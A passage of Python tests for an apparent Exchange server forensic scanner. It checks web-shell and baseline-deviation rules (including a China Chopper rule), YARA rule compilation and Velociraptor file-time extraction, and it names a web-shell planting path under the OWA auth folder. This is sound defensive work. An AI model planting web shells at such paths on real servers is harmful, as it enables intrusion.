    shell = rf"{EXW}\FrontEnd\HttpProxy\owa\auth\Current\themes\resources\fmt0x.aspx"
    write_tree(tmp_path / "SUSPECT", {**tree, shell: OAB_DUMP.encode()})
    result, _ = scan_tree(tmp_path / "SUSPECT", baseline=ours)
    assert set(by_source(result.findings)) == {shell}
    assert {"BASELINE-1", "WS-OABCONF-1"} <= by_source(result.findings)[shell]
    # against Microsoft's own list the generated stand-ins all deviate (different content), the keys match
    versus_css, _ = scan_tree(tmp_path / "SUSPECT", baseline=css)
    deviating = {f.source for f in versus_css.findings if f.rule.id == "BASELINE-1"}
    assert deviating == set(tree) | {shell}


def test_file_rules_lists_every_id() -> None:
    ids = [info.id for info in file_rules()]
    assert len(ids) == len(set(ids))
    assert {"IOC-HASH-1", "IOC-PATH-1", "IOC-NAME-1", "BASELINE-1", "WS-CHOPPER-1"} <= set(ids)


def test_compile_rules_from_a_folder(tmp_path: Path) -> None:
    (tmp_path / "one.yar").write_text(
        'rule t { meta: id = "T-1" title = "t" stage = "post" level = "low" cves = "" reference = "https://x" '
        'strings: $a = "zzz" condition: $a and place == "staging" }')
    rules = compile_rules(tmp_path)
    assert rules.infos["t"].id == "T-1"


# --- Velociraptor file-system times ----------------------------------------------------------------------------


def test_velociraptor_metadata_gives_file_times(tmp_path: Path) -> None:
    """Times come from the collection's ``All File Metadata`` rows, not from the zip entry (Go RFC 3339, ns)."""
    shell_path, shell = POSITIVES["WS-CHOPPER-1"]
    metadata = [
        {"Created": "2021-03-03T06:50:11.123456789Z", "Changed": "2021-03-03T06:50:12Z",
         "LastAccessed": "2021-03-09T09:59:00Z", "Modified": "2021-03-03T06:50:11.5Z", "Size": len(shell),
         "SourceFile": "\\\\.\\c:" + shell_path[2:]},  # ntfs accessor, lower-case drive
        {"Created": "0001-01-01T00:00:00Z", "Modified": "2021-03-01T00:00:00Z", "SourceFile": "C:\\other.txt"},
        {"ClientId": "C.1"},  # not a file row: ignored
    ]
    lines = "".join(json.dumps(row) + "\n" for row in metadata) + "{broken\n"
    archive = tmp_path / "Collection-EXCH09.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("uploads/auto/C%3A/" + shell_path[3:].replace("\\", "/"), shell)
        zf.writestr("results/Windows.KapeFiles.Targets%2FAll File Metadata.json", lines)
        zf.writestr("client_info.json", '{"Hostname": "EXCH09"}')
    (collection,), _ = discover([archive])
    assert [d.code for d in collection.diagnostics] == ["EXH-L005"]
    (evidence,) = collection.files
    assert dict(evidence.times) == {
        "created": datetime(2021, 3, 3, 6, 50, 11, 123456, tzinfo=UTC).timestamp(),
        "changed": datetime(2021, 3, 3, 6, 50, 12, tzinfo=UTC).timestamp(),
        "modified": datetime(2021, 3, 3, 6, 50, 11, 500000, tzinfo=UTC).timestamp(),
        "accessed": datetime(2021, 3, 9, 9, 59, tzinfo=UTC).timestamp(),
    }
    (finding,) = [f for f in scan_files(collection).findings if f.rule.id == "WS-CHOPPER-1"]
    assert finding.time == datetime(2021, 3, 3, 6, 50, 11, 500000, tzinfo=UTC)
    assert (finding.evidence["created"], finding.evidence["modified"]) == ("2021-03-03T06:50:11.123Z",
                                                                           "2021-03-03T06:50:11.500Z")
